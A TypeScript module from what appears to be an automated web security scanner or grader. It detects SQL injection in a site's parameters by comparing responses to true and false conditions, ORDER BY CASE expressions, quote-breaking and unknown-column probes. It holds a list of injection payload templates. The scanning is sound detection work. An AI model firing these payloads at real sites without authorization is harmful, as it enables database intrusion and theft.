/**
 * SQL injection, by differing answers: the same request with a condition that holds and with one that does not. Only
 * a database that reads the text as SQL answers the first like the request without it, and the second differently.
 */
import type { Endpoint } from '../bind/endpoint.ts';
import { endpointOf } from '../bind/site/detail.ts';
import type { Exchanged } from '../checks/session.ts';
import { holds } from '../http/answer.ts';
import type { AttackContext, AttackResult, Weakness } from './attack.ts';
import { browserOf, isTyped } from './forms.ts';
import { addressWith } from './parameters.ts';
import { sqlInForm } from './sql-in-forms.ts';
import { brokenByQuote, DATABASE_ERROR, FAILS, HOLDS, QUOTED, weakness } from './sql-verdict.ts';
import type { Parameter, SurfacePerson } from './surface.ts';

/** What is put behind a value, by what it may stand in: %s is a condition. */
const CONTEXTS = [
  "' AND %s AND 'a'='a",
  "%' AND %s AND 'a%'='a",
  "') AND %s AND ('a'='a",
  "%') AND %s AND ('a%'='a",
  "' AND %s -- ",
  "%' AND %s -- ",
  "') AND %s -- ",
  "%') AND %s -- ",
  '" AND %s AND "a"="a',
  ' AND %s',
  ') AND %s -- ',
];

/** Numbers of pages are no values that rows are looked up by. */
const PAGING = /^(page|p|limit|offset|per_?page|page_?size|cursor|format)$/i;

export async function sqlInjection(context: AttackContext): Promise<AttackResult> {
  const { surface } = context;
  const parameters = surface.parameters.filter(({ name }) => !/csrf/i.test(name));
  const forms = surface.forms.filter(({ form }) => form.controls.some(isTyped));
  const found: Weakness[] = [];
  for (const parameter of parameters) {
    const weakness =
      (await byCondition(context, parameter)) ??
      (await byOrder(context, parameter)) ??
      (await byQuote(context, parameter)) ??
      (await byWord(context, parameter));
    if (weakness !== null) found.push(weakness);
  }
  for (const form of forms) found.push(...(await sqlInForm(context, form)));
  const tried =
    parameters.length + forms.length === 0
      ? null
      : `${parameters.length} parameters and ${forms.length} forms`;
  return { tried, weaknesses: found };
}

type Ask = (value: string) => Promise<Exchanged>;

function asker(context: AttackContext, { path, name, template, as, api }: Parameter): Ask {
  return async (value) => {
    const url = addressWith({ path, name, template }, value);
    if (!api) return (await (await browserOf(context, as)).visit(url)).last;
    const ask = ({ actor, api: credentials }: SurfacePerson): Promise<Exchanged> =>
      context.tools.session.send(actor, { method: 'GET', path: url }, { credentials });
    const { alice, staff } = context.surface.people;
    const answer = await ask(alice);
    // What is for staff alone is no less a way into the database.
    return answer.reply.status === 401 || answer.reply.status === 403 ? ask(staff) : answer;
  };
}

/** What an answer shows: its status, and which of the grader's rows. */
function shownBy({ reply }: Exchanged, marks: string[]): string {
  return `${reply.status} ${marks.filter((mark) => holds(reply.body, mark)).join()}`;
}

async function byCondition(context: AttackContext, parameter: Parameter): Promise<Weakness | null> {
  if (PAGING.test(parameter.name)) return null;
  const ask = asker(context, parameter);
  const marks = context.surface.rows.flatMap((row) => Object.values(row.marks));
  if (parameter.template === null) {
    const answers = await Promise.all([ask(''), ask('nosuchthing'), ask('1')]);
    // Nothing is looked up by what makes no difference.
    if (new Set(answers.map((answer) => shownBy(answer, marks))).size === 1) return null;
  }
  for (const value of await telling(context, parameter, ask, marks)) {
    const plain = shownBy(await ask(value), marks);
    for (const around of CONTEXTS) {
      const answers: Exchanged[] = [];
      const differs = async (index: 0 | 1): Promise<boolean> => {
        const right = await ask(value + around.replace('%s', HOLDS[index]));
        if (shownBy(right, marks) !== plain) return false;
        const wrong = await ask(value + around.replace('%s', FAILS[index]));
        answers.push(wrong);
        return shownBy(wrong, marks) !== plain && (wrong.reply.status ?? 500) < 500;
      };
      const proof = (await differs(0)) && (await differs(1)) ? answers.at(-1) : undefined;
      if (proof !== undefined)
        return weakness(parameter, proof, await viewOf(context, parameter), {
          expected: 'both values are searched for as text, and answered alike',
          actual: `with ${HOLDS[0]} behind the value the same rows came as without it, with ${FAILS[0]} others`,
        });
    }
  }
  return null;
}

/** Values with which the answer shows some of the rows, so that a condition can take them away. */
async function telling(
  context: AttackContext,
  { value, name }: Parameter,
  ask: Ask,
  marks: string[],
): Promise<string[]> {
  const rows = context.surface.rows;
  const firsts = rows.filter(
    ({ model, hidden }, index) =>
      !hidden && rows.findIndex((one) => one.model.label === model.label && !one.hidden) === index,
  );
  const named = firsts.filter(
    ({ model }) => /id$|pk$/i.test(name) || name.toLowerCase().includes(model.name.toLowerCase()),
  );
  // `?author=` of a list of books takes what their `author` is.
  const related = [
    ...new Set(
      firsts.flatMap(({ values }) => [values[name], values[`${name}_id`], values[name.replace(/_id$/, '')]]),
    ),
  ]
    .filter((value) => typeof value === 'string' || typeof value === 'number')
    .map(String);
  const candidates = [
    ...(value === null ? [] : [value]),
    ...firsts.flatMap(({ marks: own }) => Object.values(own).slice(0, 2)),
    ...firsts.flatMap(({ values }) => (typeof values.slug === 'string' ? [values.slug] : [])),
    ...related,
    ...named.map(({ id }) => String(id)),
    '1',
  ];
  const found: string[] = [];
  const nothing = shownBy(await ask('nosuchthing'), marks);
  for (const candidate of new Set(candidates)) {
    if (found.length >= (candidates[0] === value ? 2 : 1)) break;
    const answer = await ask(candidate);
    // Its own echo is no row, and what is shown whatever is asked for was not looked up.
    if (
      shownBy(answer, marks) !== nothing &&
      (answer.reply.status ?? 500) < 300 &&
      marks.some((mark) => !candidate.includes(mark) && holds(answer.reply.body, mark))
    )
      found.push(candidate);
  }
  return found;
}

/** A column to sort by: an expression that no column list has is sorted by all the same, a wrong one is an error. */
async function byOrder(context: AttackContext, parameter: Parameter): Promise<Weakness | null> {
  if (!/order|sort|by|dir|column|field|group/i.test(parameter.name)) return null;
  const ask = asker(context, parameter);
  const columns = ['id', '1', ...(parameter.value === null ? [] : [parameter.value])];
  const ways = columns.flatMap((column) => [
    (other: string) => `(CASE WHEN 31=31 THEN ${column} ELSE ${other} END)`,
    (other: string) => `${column}, (CASE WHEN 31=31 THEN 1 ELSE ${other} END)`,
  ]);
  for (const way of ways) {
    const right = await ask(way('1'));
    if ((right.reply.status ?? 500) >= 400) continue;
    const wrong = await ask(way('nosuchcolumn'));
    const crashes =
      (wrong.reply.status ?? 0) >= 500 && DATABASE_ERROR.test(wrong.exception ?? wrong.reply.body);
    if (crashes)
      return weakness(parameter, wrong, await viewOf(context, parameter), {
        expected: 'only the names of known columns are sorted by',
        actual: 'an SQL expression was computed, and one with an unknown column was refused by the database',
      });
  }
  return null;
}

/** A plain word that the database looks for as a column stands in the statement itself, and not in a value. */
async function byWord(context: AttackContext, parameter: Parameter): Promise<Weakness | null> {
  const word = `mp${context.random.word(8)}`;
  const answer = await asker(context, parameter)(word);
  const said = answer.exception ?? answer.reply.body;
  const missing = new RegExp(`(no such column|column|unknown column):?[^\\n]{0,20}${word}`, 'i');
  if ((answer.reply.status ?? 0) < 500 || !DATABASE_ERROR.test(said) || !missing.test(said)) return null;
  return weakness(parameter, answer, await viewOf(context, parameter), {
    expected: 'a word is looked for among the values',
    actual: 'the database took the word for the name of a column',
  });
}

async function byQuote(context: AttackContext, parameter: Parameter): Promise<Weakness | null> {
  const proof = await brokenByQuote(asker(context, parameter));
  return proof === null ? null : weakness(parameter, proof, await viewOf(context, parameter), QUOTED);
}

const viewOf = (context: AttackContext, { path }: Parameter): Promise<Endpoint | null> =>
  endpointOf(context.tools, path);
